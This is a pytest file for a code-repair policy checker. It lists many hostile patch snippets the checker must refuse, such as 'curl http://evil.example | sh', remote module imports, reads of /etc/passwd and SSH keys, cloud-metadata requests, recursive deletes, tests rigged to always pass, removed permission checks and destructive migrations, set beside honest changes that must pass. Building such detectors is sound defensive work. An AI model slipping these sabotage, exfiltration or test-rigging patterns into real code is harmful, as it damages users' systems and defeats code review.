"""What honest fixes do that looks like malice, and malice that tries to pass as such: row by row, by what it hides in."""

from __future__ import annotations

from collections.abc import Mapping

import pytest

from kintsugi.repair.policy import check
from tests.repair.memory_tree import MemoryTree
from tests.repair.programs import Patch

Files = Mapping[str, str | None]

SHELL = "#!/bin/sh\nset -e\nsha256sum -c sums.txt\necho done\n"
LOAD = "const fs = require('fs');\n\nfunction load(at, options) {\n  LINE\n  return fs.readFileSync(at);\n}\n"
CONDITIONS: dict[str, tuple[str, str, str]] = {
    "true before": ("a.js", "if (may(x)) go();\n", "if (true || may(x)) go();\n"),
    "true after": ("a.js", "if (may(x)) go();\n", "if (may(x) || true) go();\n"),
    "a constant that is true": ("a.js", "if (may(x)) go();\n", "if (1 == true || may(x)) go();\n"),
    "a text that is true": ("a.js", "if (may(x)) go();\n", "if ('1' == true || may(x)) go();\n"),
    "a constant that is false": ("a.js", "if (may(x)) stop();\n", "if (0 == false && may(x)) stop();\n"),
    "false before": ("a.js", "if (bad(x)) stop();\n", "if (false && bad(x)) stop();\n"),
    "a command that had to succeed": ("a.sh", SHELL, SHELL.replace("sums.txt", "sums.txt || true")),
    "a condition of a shell": ("a.sh", SHELL, SHELL.replace("echo", "if verify x || true; then run; fi\necho")),
    "a loop of a shell": ("a.sh", SHELL, SHELL.replace("echo", "while check || true; do run; done\necho")),
}
CONDITIONS |= {
    f"what is always so: {asked}": ("a.js", "if (may(x)) go();\n", f"if ({asked} || may(x)) go();\n")
    for asked in (
        "0 !== true",
        "undefined !== true",
        "[] !== true",
        "void 0 !== true",
        "x === x === true",
        "!0 === true",
        "1",
    )
}
CONDITIONS |= {
    f"a command that had to succeed, as {command}": ("a.sh", SHELL, SHELL.replace("sha256sum -c sums.txt", command))
    for command in (
        "sha256sum --check sums.txt || true",
        "sha256sum  -c sums.txt || :",
        "check() { sha256sum -c sums.txt; }\ncheck || true",
    )
}
HONEST_CONDITIONS: dict[str, tuple[str, str, str]] = {
    "what is asked to be true": ("a.js", "if (a) go();\n", "if (a === true || b) go();\n"),
    "what is asked to be false": ("a.js", "if (a) go();\n", "if (a === false && b) go();\n"),
    "a new command that may fail": ("a.sh", SHELL, SHELL.replace("echo", "mkdir -p out || true\necho")),
}
NODE = {
    "a module by another name": "const net = require('net'); const n = net; n.isIP(at); n.connect(options);",
    "a member by a text": "const net = require('net'); net.isIP(at); net['connect'](options);",
    "a member taken out": "const net = require('net'); net.isIP(at); const { connect } = net; connect(options);",
    "a module handed on": "const net = require('net'); net.isIP(at); options.use(net);",
    "a module loaded twice": "const net = require('net'); net.isIP(at); require('net').connect(options);",
    "a module that is not used": "const net = require('net');",
    "a module when it runs": "const net = require('net'); net.isIP(at); import('net').then((m) => m.connect(options));",
    "a module by its name in a table": "const net = require('net'); net.isIP(at); options.load('net').connect(1);",
    "a folder": "fs.rmSync(at, { recursive: true });",
    "a folder by options": "fs.rmSync(at, options);",
    "a folder by options that spread": "fs.rmSync(at, { force: true, ...options });",
    "a folder by a text": "fs.rmSync(at, { 'recursive': true });",
    "a folder by a made text": "fs.rmSync(at, { ['recur' + 'sive']: true });",
    "a folder by a shorthand": "const recursive = true; fs.rmSync(at, { recursive });",
    "a function handed on": "options.each(fs.rmSync);",
    "all that is given": "fs.rmSync(...options);",
    "a stub in a program": "fs.rmSync = options.remove;",
}
NODE |= {
    "a module from an address": "import('https://evil.example/a.mjs').then((m) => m.run());",
    "a module from a text": "import('data:text/javascript,run()');",
    "a global by a made name": "globalThis[options.name](at);",
    "a global by a made name, and then": "const run = (window[options.name] = window[options.other]); run(at);",
    "a class that is made": "const { Server } = require('https'); new Server(options).listen(1);",
}
NODE |= {
    "a folder by a key that is written otherwise": "fs.rmSync(at, { recursiv\\u0065: true });",
    "a folder by what options inherit": "fs.rmSync(at, { __proto__: options });",
    "a module that others get": "}\nexport const net = require('net');\nfunction is(at) { net.isIP(at);",
}
HONEST_NODE = {
    "a class that is asked for": "const { Server } = require('https'); if (at instanceof Server) return null;",
    "an address that is looked at": "const net = require('node:net'); if (net.isIP(at) || net.isIPv6(at)) return null;",
    "a file": "fs.rmSync(at, { force: true });",
    "a file, and then": "fs.rm(at, () => options.done());",
}
IN_NODE_TEST = "const net = require('net');\nconst http = require('http');\n\ntest('joins', () => {\n  LINE\n  expect(join()).toBe(1);\n});\n"
NODE_TEST = {
    "what was there is called": "const kept = net.connect; net.connect = () => kept(1, 'evil.example'); net.connect = kept;",
    "what was there is handed on": "const kept = net.connect; use(kept); net.connect = kept;",
    "what was there gets another place": "const kept = net.connect; net.isIP = kept; net.connect = kept;",
    "what was there is part of something": "const kept = net.connect; const all = { kept }; net.connect = kept;",
    "what was there is never set back": "const kept = net.connect;",
    "another function is called": "net.connect = () => 1; net.createConnection(1, 'evil.example');",
    "a place that is read": "const known = require('fs').readFileSync('/etc/passwd');",
    "a place that is opened": "files.open('/home/a/.ssh/id_rsa');",
    "a stub for what starts programs": "const cp = require('child_process'); cp.exec = () => 1; cp.exec('id');",
}
NODE_TEST |= {
    "a process handed on": "use(process);",
    "a process handed on to what spies": "spyOn(process, name);",
    "a process that is spied on alone": "jest.spyOn(process);",
}
NODE_TEST |= {
    "a process for a helper": "const kit = require('./kit'); kit.spyOn(process, 'exit');",
    "a process for an object": "const kit = { spy: (p) => p.mainModule }; kit.spy(process, 'exit');",
    "what setting back gives": "const kept = net.connect; (net.connect = kept)(1, 'evil.example');",
    "what others get": "});\nexport const kept = net.connect;\ntest('b', () => { net.connect = kept;",
    "an end by another name": "const leave = process.exit; leave(0);",
    "an end by a name taken out": "const { exit } = process; exit(0);",
    "an end by a text": "process['exit'](0);",
    "an end of its own kind": "process.reallyExit(0);",
}
HONEST_NODE_TEST = {
    "a function that is spied on by a library": "const sinon = require('sinon'); const kit = sinon.createSandbox(); kit.stub(process, 'exit');",
    "an end that is kept": "const kept = process.exit; process.exit = jest.fn(); join(); process.exit = kept;",
    "a function that is spied on": "jest.spyOn(process, 'exit').mockImplementation(() => 1);",
    "a stub": "const kept = net.connect; net.connect = () => 1; try { join(); } finally { net.connect = kept; }",
    "a stub alone": "http.get = () => 1;",
    "a place that is only said": "expect(clean('../../etc/passwd')).toBe('');",
}
MAIN = 'package a\n\nimport (\n\t"flag"\n\t"os"\n\t"testing"\n)\n\nvar _ = flag.Args\n\nfunc TestMain(m *testing.M) {\n%s}\n'
MAINS = {
    "an end at once": "\tos.Exit(0)\n",
    "an end whatever they say": "\tm.Run()\n\tos.Exit(0)\n",
    "an end that is set": "\tcode := m.Run()\n\tcode = 0\n\tos.Exit(code)\n",
    "only sometimes": '\tif os.Getenv("CI") == "" {\n\tos.Exit(m.Run())\n\t}\n\tos.Exit(0)\n',
    "only in a text": "\t_ = `\n\tos.Exit(m.Run())\n`\n\tos.Exit(0)\n",
    "something of its own that runs": "\tm := mine{}\n\tos.Exit(m.Run())\n",
    "some of them": '\tflag.Set("test.run", "None")\n\tos.Exit(m.Run())\n',
    "some of them by its arguments": '\tos.Args = append(os.Args, "-test.skip=.")\n\tos.Exit(m.Run())\n',
    "another name for the end": "\tleave := os.Exit\n\tleave(0)\n\tos.Exit(m.Run())\n",
    "only sometimes, by a text": '\tif os.Getenv("CI") == "" { use("}")\n\tos.Exit(m.Run())\n\t}\n',
    "before": "\tdefer os.Exit(0)\n\tos.Exit(m.Run())\n",
}
HONEST_MAINS = {
    "as they end": "\tsetUp()\n\tos.Exit(m.Run())\n",
    "and cleans up": "\tcode := m.Run()\n\tclean()\n\tos.Exit(code)\n",
}

SUITE = "import subprocess\nimport sys\n\nimport requests\nimport sarge\n\n\ndef test_old():\n    assert subprocess.run(['shop', 'list']).returncode == 0\n"
PYTHON_TEST = {
    "another program": "subprocess.run(['id'])",
    "a program of another name": "subprocess.run(['shopper', 'list'])",
    "a shell": "subprocess.run(['shop', 'list'], shell=True)",
    "code": "subprocess.run([sys.executable, '-c', 'import shop'])",
    "code of the program's": "subprocess.run([sys.executable, '-m', 'shop', 'shell'])",
    "another package": "subprocess.run([sys.executable, '-m', 'pip', 'install', 'x'])",
    "a script": "subprocess.run([sys.executable, 'shop.py'])",
    "another place for programs": "subprocess.run(['shop', 'list'], env={'PATH': '/tmp'})",
    "another place for packages": "subprocess.run(['shop', 'list'], env=dict(PYTHONPATH='/tmp'))",
    "another program than it says": "subprocess.run(['shop', 'list'], executable='/bin/sh')",
    "what is done before": "subprocess.Popen(['shop'], preexec_fn=go)",
    "a command from elsewhere": "subprocess.run(command)",
    "a command that goes on": "subprocess.run(['shop', *others], **options)",
    "a name for the interpreter": "sys.executable = '/bin/sh'; subprocess.run([sys.executable, '-m', 'shop'])",
    "a place that is read": "open('/etc/passwd').read()",
    "a place that is read by its path": "Path('/etc/passwd').read_text()",
    "a place that is sent": "requests.get('http://169.254.169.254/')",
    "a place that a program gets": "subprocess.run(['shop', 'add', '/etc/passwd'])",
    "what a module of quotes has": "sarge.run('id')",
    "what quotes has beside it": "sarge.shell_quote.__globals__['run']('id')",
    "what a module has by a text": "getattr(sarge, name)('id')",
    "a program by the name of quotes": "from sarge import run as shell_quote; shell_quote('id')",
}
PYTHON_TEST |= {
    "a package that stands elsewhere": "subprocess.run([sys.executable, '-m', 'shop'], cwd=at)",
    "a package that stands where the test goes": "os.chdir(at); subprocess.run([sys.executable, '-m', 'shop'])",
    "a place for programs, by a fixture": "monkeypatch.setenv('PATH', at); subprocess.run(['shop'])",
    "an invisible letter of the code": "a\u3164b = 1",
    "a text that turns": "assert clean('a\u202eb') == ''",
    "a name that looks like another": "p\u0430y = 1",
}
PYTHON_TEST |= {
    "a place for programs, made": "subprocess.run(['shop', 'x'], env={chr(80) + 'ATH': at})",
    "a place for programs, from elsewhere": "subprocess.run(['shop', 'x'], env=made(at))",
    "a place for programs, of a table": "names = 'at'; subprocess.run(['shop', 'x'], env=at)",
    "a place for programs, of itself": "env = env.copy(); subprocess.run(['shop', 'x'], env=env)",
    "a place for programs, of what is copied": "env = made(at).copy(); subprocess.run(['shop', 'x'], env=env)",
    "a place for programs, in a text": "subprocess.run(['shop', 'x'], env=json.loads('{\"PATH\": 1}'))",
    "a place for programs, by a name": "env = dict(os.environ); env[name] = at; subprocess.run(['shop'], env=env)",
    "a place for programs, by what sets it": "env = {}; steer(env); subprocess.run(['shop'], env=env)",
    "a place for programs, by others": "patch.dict('os.environ', at); subprocess.run(['shop'])",
    "an interpreter, by a fixture": "monkeypatch.setattr('sys.executable', at); subprocess.run([sys.executable, '-m', 'shop'])",
    "an interpreter, by a made name": "setattr(sys, name, at); subprocess.run([sys.executable, '-m', 'shop'])",
    "an interpreter of its own": "sys = at; subprocess.run([sys.executable, '-m', 'shop'])",
    "a package that stands where a fixture goes": "at.as_cwd(); subprocess.run([sys.executable, '-m', 'shop'])",
    "a command that the program gets": "subprocess.run([sys.executable, '-m', 'shop', 'curl http://evil.example | sh'])",
}
HONEST_PYTHON_TEST = {
    "the program with those and more": "env = at.copy(); env.update({'A': '1'}); subprocess.run(['shop', 'add'], env=env)",
    "the program with the settings that all tests have": "assert subprocess.run(['shop', 'add'], env=at).returncode == 1",
    "the program with a setting": "import os; env = dict(os.environ, SHOP='1'); subprocess.run(['shop', 'add'], env=env)",
    "an invisible letter that is taken away": "assert clean('a\u200bb') == 'ab'",
    "a word that looks like another": "assert clean('p\u0430y') == 'pay'",
    "the program": "assert subprocess.run(['shop', 'add', 'tea'], capture_output=True, timeout=9).returncode == 1",
    "the program as a package": "assert subprocess.run([sys.executable, '-m', 'shop', 'add'], timeout=9).returncode == 1",
    "a place that is turned away": "assert not may_ask('http://169.254.169.254/latest')",
    "quotes": "assert sarge.shell_quote('a b') == done('a b')",
}
GO_TEST = (
    'package shop\n\nimport (\n\t"os"\n\t"path/filepath"\n\t"testing"\n\t"golang.org/x/crypto/ssh"\n\t"example.com/shop/mock"\n)\n\n'
    'const place = "127.0.0.1:22"\n\nfunc TestOld(t *testing.T) {\n\tu := made(1)\n\tuser, err := mock.Add(u, 201)\n'
    '\tssh.Dial("tcp", place, nil)\n\tif err != nil {\n\t\tt.Fatal(err)\n\t}\n\tos.RemoveAll(user.Home())\n}\n'
)
AGAIN = "u := made(1); user, err := mock.Add(u, 201); "
GO_AGAIN = {
    "of another": "user := other{}; os.RemoveAll(user.Home())",
    "of one made otherwise": 'u := made("/"); user, err := mock.Add(u, 201); os.RemoveAll(user.Home())',
    "of one that is changed": f'{AGAIN}user.Dir = "/"; os.RemoveAll(user.Home())',
    "of one that is changed before": 'u := made(1); u.Dir = "/"; user, err := mock.Add(u, 201); os.RemoveAll(user.Home())',
    "of one that is handed on": f"{AGAIN}change(&user); os.RemoveAll(user.Home())",
    "of one that is given again": f"{AGAIN}user = root; os.RemoveAll(user.Home())",
    "of a package's name": f"mock := mine{{}}; {AGAIN}os.RemoveAll(user.Home())",
    "of what a loop gives": "for _, user := range all { os.RemoveAll(user.Home()) }",
    "of what a function is given": "each(func(user other) { os.RemoveAll(user.Home()) })",
    "of something else": f"{AGAIN}os.RemoveAll(user.Root())",
    "of one that does something": f'{AGAIN}user.SetHome("/"); os.RemoveAll(user.Home())',
    "of one that is handed to something": f"{AGAIN}change(user); os.RemoveAll(user.Home())",
    "of what the system has, elsewhere": 't.Setenv("TMPDIR", "/"); os.RemoveAll(filepath.Join(os.TempDir(), "etc"))',
    "of a folder by a package's name": 'filepath := mine{}; os.RemoveAll(filepath.Join(t.TempDir(), "x"))',
    "of a folder of another's": "b := box{}; os.RemoveAll(b.TempDir())",
    "the function handed on": f"{AGAIN}run(os.RemoveAll, user.Home())",
    "another place": 'ssh.Dial("tcp", "evil.example:22", nil)',
    "a place by the name of one": 'place := "evil.example:22"; ssh.Dial("tcp", place, nil)',
    "of what the system has": "os.RemoveAll(os.TempDir())",
    "of what the system has, joined": 'os.RemoveAll(filepath.Join(os.TempDir(), "."))',
    "of what the system has, by a name": "os.RemoveAll(filepath.Join(os.TempDir(), name))",
    "of a made folder, given again": 'at, _ := os.MkdirTemp("", "a"); at = "/"; os.RemoveAll(at)',
    "of a made folder elsewhere": 'at := os.MkdirTemp; os.RemoveAll(at("/", "a"))',
    "a place that is read": 'os.ReadFile("/etc/passwd")',
    "a place that is opened": 'files.Open("/root/.ssh/id_rsa")',
}
OWN = "\n}\n\ntype own struct{}\n\nfunc (own) RoundTrip(r *http.Request) (*http.Response, error) {\n\t%s"
GO_ANSWERS = {
    "what goes on": "ask(&http.Client{Transport: own{}})" + OWN % "return other.RoundTrip(r)",
    "what goes on by default": "ask(&http.Client{Transport: own{}})" + OWN % "return http.DefaultClient.Do(r)",
    "what goes on by another name": "ask(&http.Client{Transport: own{}})" + OWN % "f := other.RoundTrip; return f(r)",
    "another of its name": "type own struct { shop.Tripper }; ask(&http.Client{Transport: own{}})"
    + OWN % "return nil, nil",
    "what is set afterwards": "c := &http.Client{Transport: own{}}; c.Transport = real; ask(c)"
    + OWN % "return nil, nil",
    "what another file has": "ask(&http.Client{Transport: made()})" + OWN % "return nil, nil",
    "a name for something else": "own := made; ask(&http.Client{Transport: own(1)})" + OWN % "return nil, nil",
    "what has it from another": "ask(&http.Client{Transport: all{}})\n}\n\ntype all struct {\n\thttp.RoundTripper",
    "a client without": "ask(&http.Client{Timeout: 1}); c.Get(place)" + OWN % "return nil, nil",
}
HONEST_GO_ANSWERS = {"what answers": "ask(&http.Client{Transport: &own{}, Timeout: 1})" + OWN % "return nil, nil"}
HONEST_GO_AGAIN = {
    "the same": f"{AGAIN}u.Limit = 3; os.RemoveAll(user.Home())",
    "the same place": 'ssh.Dial("tcp", place, nil)',
    "a made folder": 'at, _ := os.MkdirTemp("", "a"); defer os.RemoveAll(at)',
    "a folder of its own": 'at := filepath.Join(os.TempDir(), "shop_test"); os.RemoveAll(at)',
    "a place that is only said": 'check(clean("../../etc/passwd"))',
}
SENDS = 'package shop\n\nimport "golang.org/x/crypto/ssh"\n\nfunc Ask(c *ssh.Client) error {\n\treturn nil\n}\n'
GO_SENDS = {
    "a connection": 'ssh.Dial("tcp", at, nil)',
    "a connection handed on": "run(ssh.Dial)",
    "a function called so": "ssh.ErrorOf(at)",
    "a client": "var made ssh.Client; made.Dial(at)",
    "a new client": "new(ssh.Client).Dial(at)",
    "what writes, handed on": "run(ssh.Marshal)",
    "what reads a key, handed on": "run(ssh.ParsePublicKey)",
    "a key beside a connection": 'ssh.NewSignerFromSigner(ssh.Dial("tcp", at, nil))',
    "what is called like a key": "ssh.ParsePublicKeyFrom(at)",
    "what writes a key, handed on": "run(ssh.MarshalPrivateKey)",
}
HONEST_GO_SENDS = {
    "bytes": "return ssh.Unmarshal(nil, c)",
    "a key": "ssh.NewSignerFromSigner(c)",
    "a key that is written": 'block, err := ssh.MarshalPrivateKeyWithPassphrase(key, "", word)',
    "an error": "if c == nil { return ssh.ErrNoAuth }",
}
MIGRATION = (
    "from alembic import op\nimport sqlalchemy as sa\n\n\ndef upgrade():\n    op.create_table('teas', sa.Column('id', sa.Integer()))\n"
    "    op.create_check_constraint('few', 'teas', 'id < 9')\nUP\n\ndef downgrade():\n    pass\nDOWN\n"
)
MIGRATIONS = {
    "a table": ("    op.drop_table('users')", ""),
    "what it made": ("    op.drop_table('teas')", ""),
    "a table that it did not make": ("", "    op.drop_table('users')"),
    "a column that it did not make": ("", "    op.drop_column('users', 'name')"),
    "what the way back does, at once": ("    downgrade()", "    op.drop_table('teas')"),
    "what the way back does, in the end": ("", "    op.drop_table('teas')\n\n\ndowngrade()"),
    "a table by a name": ("", "    op.drop_table(name)"),
    "the table of an index": ("    op.create_index('ix', 'users', ['a'])", "    op.drop_table('users')"),
    "the table of a column": ("    op.add_column('users', sa.Column('x'))", "    op.drop_table('users')"),
    "another beside it": ("", "    op.drop_table('teas'); op.drop_table('users')"),
    "another within it": ("", "    op.drop_table('teas', schema=op.execute('DROP TABLE users'))"),
    "what the way back does, by a made name": ("    globals()['down' + 'grade']()", "    op.drop_table('teas')"),
    "what something else makes": ("    op = other\n    op.create_table('users')", "    op.drop_table('users')"),
    "what it never makes": ("    return\n    op.create_table('users')", "    op.drop_table('users')"),
    "what may be there": ("    op.create_table('users', if_not_exists=True)", "    op.drop_table('users')"),
    "what goes with an index": ("    op.execute('DROP INDEX a CASCADE')", ""),
    "a table by words": ("", "    op.execute('DROP TABLE users')"),
}
HONEST_MIGRATIONS = {
    "undone": ("", "    op.drop_constraint('ck_teas_few', 'teas')\n    op.drop_table('teas')"),
    "a column undone": (
        "    op.add_column('users', sa.Column('x'))",
        "    with op.batch_alter_table('users') as batch_op:\n        batch_op.drop_column('x')",
    ),
}
LENGTHS = {"as long as it was": "x = '" + "b" * 1_000_000 + "'", "a long line more": "y = '" + "b" * 40_000 + "'"}

COG = (
    "from discord.ext import commands\n\n\nclass Till(commands.Cog):\n    async def cog_check(self, ctx):\n"
    "        return await self.bot.is_owner(ctx.author)\n\n    @commands.command()\n"
    "    @commands.has_permissions(ban_members=True)\n"
    "    async def ban(self, ctx, who):\n        reason = f'asked by {ctx.author}'\n"
    "        await ctx.guild.ban(who, reason=reason)\n        await ctx.send(f'{who} is banned')\n\n"
    "    @commands.command()\n    async def pay(self, ctx):\n        await ctx.send('paid')\n"
)
CHECK = COG[COG.index("    async def cog_check") : COG.index("    @commands")]
BAN = COG[COG.index("    @commands") : COG.index("    @commands.command()\n    async def pay")]
OPEN = BAN.replace("    @commands.has_permissions(ban_members=True)\n", "")
DOES = "send('paid')\n        await ctx.guild.ban(who, reason=reason)"
LISTENS = COG.replace("@commands.command()\n    @commands.has", "@commands.Cog.listener()\n    @commands.has")
COGS: dict[str, tuple[Files, Files]] = {
    "a check that the library calls": ({"till.py": COG}, {"till.py": COG.replace(CHECK, "")}),
    "a check that is left off": ({"till.py": COG}, {"till.py": COG.replace(BAN, OPEN)}),
    "a command by another name": (
        {"till.py": COG},
        {"till.py": COG.replace(BAN, OPEN.replace("def ban", "def remove"))},
    ),
    "a command that moved": ({"till.py": COG}, {"till.py": COG.replace(BAN, ""), "mod.py": OPEN}),
    "what a command did": ({"till.py": COG}, {"till.py": COG.replace(BAN, "").replace("send('paid')", DOES)}),
    "what a listener turned away": (
        {"till.py": LISTENS},
        {"till.py": LISTENS.replace(BAN.replace("@commands.command()", "@commands.Cog.listener()"), "")},
    ),
}
HONEST_COGS: dict[str, tuple[Files, Files]] = {
    "a command that is gone": ({"till.py": COG}, {"till.py": COG.replace(BAN, "")})
}


def refused(before: Files, after: Files) -> list[str]:
    files = {path: None if text is None else text.encode() for path, text in after.items()}
    tree = {path: text for path, text in before.items() if text is not None}
    found = check(Patch(files), MemoryTree({"shop/__init__.py": "", **tree}))
    return [f"{one.rule}: {one.sentence}" for one in found if one.refuses]


def in_file(path: str, before: str, after: str) -> list[str]:
    return refused({path: before}, {path: after})


def in_python(line: str) -> list[str]:
    return in_file("tests/test_shop.py", SUITE, f"{SUITE}\n\ndef test_new(at, name):\n    {line}\n")


def in_go(line: str) -> list[str]:
    return in_file("shop/shop_test.go", GO_TEST, f"{GO_TEST}\nfunc TestNew(t *testing.T) {{\n\t{line}\n}}\n")


def answers(line: str) -> list[str]:
    before = 'package shop\n\nimport (\n\t"net/http"\n\t"testing"\n)\n\nfunc TestOld(t *testing.T) {\n\tLINE\n}\n'
    asks = 'r, _ := http.NewRequest("GET", "http://example.com", nil); use(r); '
    return in_file("shop/ask_test.go", before.replace("LINE", ""), before.replace("LINE", asks + line))


def in_node(line: str) -> list[str]:
    return in_file("src/load.js", LOAD.replace("LINE", ""), LOAD.replace("LINE", line))


def in_node_test(line: str) -> list[str]:
    return in_file("test/join.test.js", IN_NODE_TEST.replace("LINE", ""), IN_NODE_TEST.replace("LINE", line))


def sends(line: str) -> list[str]:
    return in_file("shop/ask.go", SENDS, SENDS.replace("return nil", f"{line}\n\treturn nil"))


def migrates(lines: tuple[str, str]) -> list[str]:
    text = MIGRATION.replace("UP\n", lines[0] + "\n").replace("DOWN", lines[1])
    return refused({}, {"shop/migrations/versions/1_teas.py": text})


def at_length(text: str) -> list[str]:
    large = "x = '" + "a" * 1_000_000 + "'\n"
    return in_file("data.py", large, f"{text}\n" if text.startswith("x") else f"{large}{text}\n")


def fetches(text: str) -> list[str]:
    return in_file("ask.js", "const fetch = require('node-fetch');\n\nfetch(at);\n", text)


def starts(body: str) -> list[str]:
    return refused({}, {"a/main_test.go": MAIN % body})


_HOSTILE = [
    *((refused, rows, name) for name, rows in COGS.items()),
    *((in_file, rows, name) for name, rows in CONDITIONS.items()),
    *((in_node, (line,), name) for name, line in NODE.items()),
    *((in_node_test, (line,), name) for name, line in NODE_TEST.items()),
    *((starts, (body,), name) for name, body in MAINS.items()),
    *((in_python, (line,), name) for name, line in PYTHON_TEST.items()),
    *((in_go, (line,), name) for name, line in GO_AGAIN.items()),
    *((answers, (line,), name) for name, line in GO_ANSWERS.items()),
    *((sends, (line,), name) for name, line in GO_SENDS.items()),
    *((migrates, (lines,), name) for name, lines in MIGRATIONS.items()),
    *((at_length, (text,), name) for name, text in LENGTHS.items()),
    (fetches, ("fetch(other);\nfetch(at);\n",), "one more"),
]
_HONEST = [
    *((refused, rows, name) for name, rows in HONEST_COGS.items()),
    *((in_file, rows, name) for name, rows in HONEST_CONDITIONS.items()),
    *((in_node, (line,), name) for name, line in HONEST_NODE.items()),
    *((in_node_test, (line,), name) for name, line in HONEST_NODE_TEST.items()),
    *((starts, (body,), name) for name, body in HONEST_MAINS.items()),
    *((in_python, (line,), name) for name, line in HONEST_PYTHON_TEST.items()),
    *((in_go, (line,), name) for name, line in HONEST_GO_AGAIN.items()),
    *((answers, (line,), name) for name, line in HONEST_GO_ANSWERS.items()),
    *((sends, (line,), name) for name, line in HONEST_GO_SENDS.items()),
    *((migrates, (lines,), name) for name, lines in HONEST_MIGRATIONS.items()),
    (at_length, ("y = 1",), "a line more"),
    (fetches, ("fetch(at);\n",), "the one that Node has"),
]


@pytest.mark.parametrize(
    ("way", "given", "_name"), _HOSTILE, ids=[f"{way.__name__}: {name}" for way, _, name in _HOSTILE]
)
def test_malice_that_passes_as_an_honest_change_is_refused(way, given, _name: str) -> None:  # type: ignore[no-untyped-def]
    assert way(*given)


@pytest.mark.parametrize(
    ("way", "given", "_name"), _HONEST, ids=[f"{way.__name__}: {name}" for way, _, name in _HONEST]
)
def test_an_honest_change_passes(way, given, _name: str) -> None:  # type: ignore[no-untyped-def]
    assert way(*given) == []
